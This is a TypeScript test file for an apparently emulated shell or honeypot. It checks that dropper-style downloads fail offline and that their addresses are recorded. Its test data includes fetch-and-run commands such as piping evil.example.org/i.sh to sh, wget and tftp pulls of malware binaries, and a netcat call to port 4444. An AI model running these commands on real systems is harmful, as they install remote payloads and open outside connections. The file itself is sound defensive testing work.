import { describe, expect, it } from 'vitest'
import { makeHost } from '../harness.ts'

/** What a dropper asks for is written down although nothing leaves the machine. */
function urls(host: ReturnType<typeof makeHost>): unknown[] {
  return host.recorder.of('indicator').map(({ kind, value }) => [kind, String((value as { text?: string }).text ?? value)])
}

describe('downloads without egress', () => {
  it.each([
    ['wget http://198.51.100.9/bins.sh', 4, 'http://198.51.100.9/bins.sh'],
    ['curl -s -O http://198.51.100.9/a/x86', 7, 'http://198.51.100.9/a/x86'],
    ['curl -fsSL https://evil.example.org/i.sh | sh', 0, 'https://evil.example.org/i.sh'],
    ['cd /tmp; wget -q -O- http://evil.example.org:8080/y', 4, 'http://evil.example.org:8080/y'],
  ])(
    '%s fails as without a network and leaves its address',
    async (command, exitCode, url) => {
      const host = makeHost()
      const before = (await host.run('ls -a /root /tmp')).stdout
      const answer = await host.run(command)
      expect(answer.exitCode).toBe(exitCode)
      expect(JSON.stringify(urls(host))).toContain(url)
      expect((await host.run('ls -a /root /tmp')).stdout).toBe(before)
    },
    20_000,
  )

  it('words the failure as wget and curl do', async () => {
    const { run } = makeHost()
    expect((await run('curl http://no.such.example/')).stderr).toContain('curl: (6) Could not resolve host: no.such.example\n')
    expect((await run('wget http://no.such.example/')).stderr).toMatch(
      /Resolving no\.such\.example \(no\.such\.example\)\.\.\. failed: .*\.\nwget: unable to resolve host address ‘no\.such\.example’\n$/,
    )
    expect((await run('wget')).stderr).toBe("wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n")
    expect((await run('curl')).stderr).toBe("curl: try 'curl --help' or 'curl --manual' for more information\n")
  })

  it('notes what other clients dial', async () => {
    const host = makeHost()
    await host.run(
      'tftp -g -r mips 198.51.100.9; ftpget 198.51.100.9 a b; nc -w 1 198.51.100.9 4444 </dev/null; git clone https://github.com/x/y',
      { stdin: '' },
    )
    const seen = JSON.stringify(urls(host))
    for (const part of ['198.51.100.9', '4444', 'https://github.com/x/y']) expect(seen).toContain(part)
  }, 30_000)

  it('a service of the machine itself answers', async () => {
    const { run } = makeHost()
    expect((await run('curl -s -o /dev/null -w "%{http_code}\\n" http://127.0.0.1/')).stdout).toMatch(/^\d{3}\n$/)
    expect((await run('nc -zv 127.0.0.1 22')).stderr).toContain('open')
    expect((await run('curl -s http://127.0.0.1:9/')).exitCode).toBe(7)
  })
})
